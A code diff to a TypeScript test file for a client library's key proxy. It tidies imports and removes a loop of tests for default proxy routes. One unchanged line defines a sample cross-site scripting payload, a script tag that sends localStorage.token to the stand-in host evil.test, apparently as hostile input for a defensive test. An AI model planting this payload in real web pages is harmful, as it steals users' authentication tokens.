@@ -1,15 +1,8 @@
 import { expect } from "chai";
 import fc from "fast-check";
-import {
-  createClient,
-  createKeyProxy,
-  defaultProxyRoutes,
-  getChains,
-  testnet,
-} from "../../../src/client/index.ts";
+import { createClient, createKeyProxy, getChains, testnet } from "../../../src/client/index.ts";
 import { rejectionOf } from "./support/fakeService.ts";
 import { apiKey, stage } from "./support/keyProxy.ts";
-import { requestId } from "./support/samples.ts";
 
 const html = "<script>fetch('https://evil.test/?' + localStorage.token)</script>";
 
@@ -62,13 +55,6 @@ describe("createKeyProxy", () => {
     }
     expect(calls).to.deep.equal([]);
   });
-
-  for (const route of defaultProxyRoutes) {
-    it(`passes the default route ${route}`, async () => {
-      const [method = "", path = ""] = route.replace(":requestId", requestId).split(" ");
-      expect(await stage().statusOf(path, { body: method === "POST" ? "{}" : null, method })).to.equal(200);
-    });
-  }
 
   it("has its own routes under its own prefix", async () => {
     const { statusOf } = stage(undefined, { prefix: "/api/relay", routes: ["GET /requests/v3"] });
